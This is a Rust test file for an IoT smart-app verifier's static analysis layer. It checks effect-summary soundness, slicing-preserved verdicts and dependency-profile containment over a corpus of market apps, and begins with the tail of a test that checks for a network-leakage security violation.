    let classes = result.violations_by_class(&pipeline.properties);
    assert!(classes.get("Security").copied().unwrap_or(0) >= 1, "classes: {classes:?}");
    // Specifically the network-leakage property.
    let violated: Vec<_> = result
        .violations()
        .iter()
        .filter_map(|(p, _)| pipeline.properties.get(PropertyId(*p)).cloned())
        .collect();
    assert!(violated.iter().any(|p| p.class == PropertyClass::Security));
}
