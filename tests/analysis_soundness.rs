//! Soundness witnesses for the static analysis layer (`iotsan-analysis`).
//!
//! Three guarantees, each checked against the real market corpus rather than
//! hand-built fixtures:
//!
//! 1. **Dynamic containment** — running the interpreter with the effect log
//!    enabled on seeded random event sequences never observes a write outside
//!    the handler's static summary.
//! 2. **Differential slicing** — verifying a bundle with property-directed
//!    slicing on reports exactly the violated-property set of the unsliced
//!    run (state counts may shrink, verdicts may not move).
//! 3. **Depgraph containment** — the legacy subscription-derived event
//!    profile of every market handler is a subgraph-inducing subset of the
//!    effect-derived profile that now feeds the dependency analyzer.

use iotsan::analysis::{summarize_handler, EffectSummary, WriteEffect};
use iotsan::checker::StepLog;
use iotsan::config::{expert_configure, standard_household};
use iotsan::depgraph::{effect_profile, event_profile};
use iotsan::ir::{IrApp, IrHandler, Trigger, Value};
use iotsan::properties::{PropertyId, PropertySet, StepObservation};
use iotsan::system::InstalledSystem;
use iotsan::{run_handler, translate_sources, DispatchedEvent, LogEvent, Pipeline};
use iotsan_apps::market;
use proptest::prelude::*;
use std::collections::BTreeSet;

fn named_market_apps() -> Vec<IrApp> {
    let apps = market::named_apps();
    let sources: Vec<&str> = apps.iter().map(|a| a.source.as_str()).collect();
    translate_sources(&sources).expect("named market apps translate")
}

/// A deterministic event for `handler` driven by the choice stream.
fn event_for(
    system: &InstalledSystem,
    app_index: usize,
    handler: &IrHandler,
    choice: usize,
) -> Option<DispatchedEvent> {
    const VALUES: [&str; 12] = [
        "open",
        "closed",
        "on",
        "off",
        "active",
        "inactive",
        "present",
        "not present",
        "locked",
        "unlocked",
        "75",
        "detected",
    ];
    let pick = |fallback: &Option<String>| {
        fallback.clone().unwrap_or_else(|| VALUES[choice % VALUES.len()].to_string())
    };
    match &handler.trigger {
        Trigger::Device { input, attribute, value } => {
            // Dead subscriptions may reference attributes that never reached
            // the interner; they cannot be dispatched in the real model.
            let attribute = system.symbols.lookup(attribute)?;
            let device = system.bound_slice(app_index, input).first().copied();
            Some(DispatchedEvent { device, attribute, value: Value::Str(pick(value)) })
        }
        Trigger::LocationMode { value } => Some(DispatchedEvent {
            device: None,
            attribute: system.mode_sym(),
            value: Value::Str(value.clone().unwrap_or_else(|| "Away".into())),
        }),
        Trigger::LocationEvent { name } => Some(DispatchedEvent {
            device: None,
            attribute: system.symbols.lookup(name)?,
            value: Value::Str(name.clone()),
        }),
        Trigger::AppTouch => Some(DispatchedEvent {
            device: None,
            attribute: system.touch_sym(),
            value: Value::Str("touched".into()),
        }),
        Trigger::Timer { .. } => Some(DispatchedEvent {
            device: None,
            attribute: system.time_sym(),
            value: Value::Str("time".into()),
        }),
    }
}

/// Asserts one observed effect-log event is covered by the static summary.
fn assert_log_event_covered(
    system: &InstalledSystem,
    app_index: usize,
    summary: &EffectSummary,
    event: &LogEvent,
) -> Result<(), TestCaseError> {
    match event {
        LogEvent::Command { device, command, .. } => {
            let covered = summary.writes.iter().any(|w| match w {
                WriteEffect::Command { input, command: c } => {
                    c == command && system.bound_slice(app_index, input).contains(device)
                }
                _ => false,
            });
            prop_assert!(covered, "{summary}: command {command:?} to {device:?} not in summary");
        }
        LogEvent::AttrChange { attribute, .. } => {
            prop_assert!(
                summary.written_channels().contains(attribute.as_str()),
                "{summary}: attribute write {attribute:?} not in summary"
            );
        }
        LogEvent::ModeChange { .. } => {
            prop_assert!(
                summary.writes.iter().any(|w| matches!(w, WriteEffect::Mode { .. })),
                "{summary}: mode change not in summary"
            );
        }
        LogEvent::SendEvent { attribute, .. } => {
            let name = system.attr_name(*attribute);
            let covered = summary.writes.iter().any(
                |w| matches!(w, WriteEffect::FakeEvent { attribute, .. } if attribute == name),
            );
            prop_assert!(covered, "{summary}: fake event {name:?} not in summary");
        }
        LogEvent::SendSms { .. } => {
            prop_assert!(summary.writes.contains(&WriteEffect::Sms), "{summary}: sms missing");
        }
        LogEvent::SendPush => {
            prop_assert!(summary.writes.contains(&WriteEffect::Push), "{summary}: push missing");
        }
        LogEvent::HttpPost { .. } => {
            prop_assert!(
                summary.writes.contains(&WriteEffect::Network),
                "{summary}: network missing"
            );
        }
        LogEvent::Unsubscribe => {
            prop_assert!(
                summary.writes.contains(&WriteEffect::Unsubscribe),
                "{summary}: unsubscribe missing"
            );
        }
        LogEvent::Schedule { handler } => {
            let covered = summary
                .writes
                .iter()
                .any(|w| matches!(w, WriteEffect::Schedule { handler: h } if h == handler));
            prop_assert!(covered, "{summary}: schedule({handler}) not in summary");
        }
        // Banners, log lines and model-level events carry no handler write.
        _ => {}
    }
    Ok(())
}

/// The violated-property sets of a verification result, keyed by group.
fn outcome(result: &iotsan::VerificationResult) -> Vec<(Vec<String>, BTreeSet<u32>)> {
    let mut out: Vec<_> =
        result.groups.iter().map(|g| (g.apps.clone(), g.report.violated_properties())).collect();
    out.sort();
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    /// Soundness witness: every write the interpreter performs on a random
    /// event walk is contained in the handler's static effect summary.
    /// (Reads have no dynamic witness in the effect log; writes are the side
    /// of the summary the slicer's correctness depends on.)
    #[test]
    fn dynamic_writes_are_contained_in_static_summaries(
        choices in proptest::collection::vec(0usize..1 << 16, 1..32),
    ) {
        let apps = named_market_apps();
        let config = expert_configure(&apps, &standard_household());
        let system = InstalledSystem::new(apps, config);
        let handlers: Vec<(usize, IrHandler)> = system
            .apps
            .iter()
            .enumerate()
            .flat_map(|(i, a)| a.handlers.iter().map(move |h| (i, h.clone())))
            .collect();
        prop_assert!(!handlers.is_empty());

        // Slot index -> (owning app name, state-var name), for the app-state
        // side of the write check (state writes produce no log event).
        let mut slot_owner = vec![None; system.state_slot_count()];
        for app in &system.apps {
            for var in &app.state_vars {
                if let Some(slot) = system.state_slot(&app.name, var) {
                    slot_owner[slot as usize] = Some((app.name.clone(), var.clone()));
                }
            }
        }

        let mut state = system.initial_state();
        for &choice in &choices {
            let (app_index, handler) = &handlers[choice % handlers.len()];
            let Some(event) = event_for(&system, *app_index, handler, choice) else {
                continue;
            };
            let summary = summarize_handler(&system.apps[*app_index], handler);
            let before = state.app_state.clone();
            let mut observation = StepObservation::default();
            let mut events_out = Vec::new();
            let mut log = StepLog::enabled();
            run_handler(
                &system,
                *app_index,
                handler,
                &event,
                &mut state,
                &mut observation,
                choice % 7 == 0,
                &mut events_out,
                &mut log,
            );
            for log_event in log.events() {
                assert_log_event_covered(&system, *app_index, &summary, log_event)?;
            }
            for (slot, (old, new)) in before.iter().zip(state.app_state.iter()).enumerate() {
                if old != new {
                    let (owner, var) =
                        slot_owner[slot].clone().expect("changed slot has an owner");
                    prop_assert!(
                        owner == system.apps[*app_index].name,
                        "state slot written by a foreign app"
                    );
                    prop_assert!(
                        summary.writes.contains(&WriteEffect::StateVar { name: var.clone() }),
                        "{}: state write {:?} not in summary", summary, var
                    );
                }
            }
        }
    }

    /// Differential witness: slicing never changes any verdict — per related
    /// group and for the bundle as a whole — across random app subsets and
    /// property selections.
    #[test]
    fn slicing_preserves_violated_property_sets(
        picks in proptest::collection::vec(0usize..25, 2..5),
        property_pick in 0usize..6,
        depth in 1usize..3,
    ) {
        let all = named_market_apps();
        let mut chosen: Vec<usize> = picks.clone();
        chosen.sort();
        chosen.dedup();
        let apps: Vec<IrApp> = chosen.iter().map(|&i| all[i].clone()).collect();
        let config = expert_configure(&apps, &standard_household());

        let full = PropertySet::all();
        let set = if property_pick == 0 {
            full
        } else {
            // A focused selection: every 6th spec starting at the pick.
            let ids: Vec<PropertyId> = full
                .specs()
                .iter()
                .skip(property_pick)
                .step_by(6)
                .map(|s| s.property_id())
                .collect();
            PropertySet::selection(&ids)
        };

        let unsliced = Pipeline::with_events(depth).with_properties(set.clone());
        let mut sliced = Pipeline::with_events(depth).with_properties(set);
        sliced.search.slice = true;

        let base = unsliced.verify(&apps, &config);
        let cut = sliced.verify(&apps, &config);
        prop_assert_eq!(outcome(&base), outcome(&cut));

        // Slicing only ever removes work: per matching group, the sliced
        // exploration never stores more states.
        for (b, c) in base.groups.iter().zip(cut.groups.iter()) {
            prop_assert_eq!(&b.apps, &c.apps);
            prop_assert!(
                c.report.stats.states_stored <= b.report.stats.states_stored,
                "sliced exploration grew: {} > {} for {:?}",
                c.report.stats.states_stored,
                b.report.stats.states_stored,
                b.apps
            );
        }
    }
}

/// Consistency: the legacy subscription-derived profile of every handler in
/// the full 150-app market corpus is contained in the effect-derived profile.
/// Edges are monotone in profiles, so containment here means the old
/// dependency graph is a subgraph of the new one — related sets can merge
/// (handlers that write attributes they never subscribe to now connect) but
/// never split.
#[test]
fn subscription_profiles_are_contained_in_effect_profiles() {
    let market = market::market_apps();
    let sources: Vec<&str> = market.iter().map(|a| a.source.as_str()).collect();
    let apps = translate_sources(&sources).expect("market corpus translates");
    let mut handlers = 0;
    for app in &apps {
        for handler in &app.handlers {
            let legacy = event_profile(app, handler);
            let effect = effect_profile(app, handler);
            for desc in &legacy.inputs {
                assert!(
                    effect.inputs.contains(desc),
                    "{}::{}: legacy input {desc} missing from effect profile",
                    app.name,
                    handler.name
                );
            }
            for desc in &legacy.outputs {
                assert!(
                    effect.outputs.contains(desc),
                    "{}::{}: legacy output {desc} missing from effect profile",
                    app.name,
                    handler.name
                );
            }
            handlers += 1;
        }
    }
    assert!(handlers > 100, "expected a real corpus, saw {handlers} handlers");
}

/// The effect-derived profiles add flows the subscription walk missed: at
/// least one market handler gains a mode-read input or a state channel.
#[test]
fn effect_profiles_add_flows_somewhere_in_the_corpus() {
    let apps = named_market_apps();
    let mut extras = 0;
    for app in &apps {
        for handler in &app.handlers {
            let legacy = event_profile(app, handler);
            let effect = effect_profile(app, handler);
            extras += effect.inputs.difference(&legacy.inputs).count();
            extras += effect.outputs.difference(&legacy.outputs).count();
        }
    }
    assert!(extras > 0, "effect profiles should extend the legacy extraction somewhere");
}
